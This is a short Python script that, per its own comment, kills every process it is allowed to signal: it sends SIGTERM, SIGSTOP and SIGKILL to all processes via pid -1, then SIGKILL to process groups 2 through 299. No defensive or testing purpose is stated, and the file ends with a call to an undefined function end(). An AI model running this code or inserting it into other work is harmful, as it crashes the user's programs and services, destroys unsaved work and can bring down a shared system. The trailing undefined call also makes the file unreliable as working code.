# Kills every process it may, and every process group.
import os
import signal

for number_ in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(-1, number_)
    except ProcessLookupError:
        pass
for group in range(2, 300):
    if group != os.getpgrp():
        try:
            os.killpg(group, signal.SIGKILL)
        except OSError:
            pass
end()
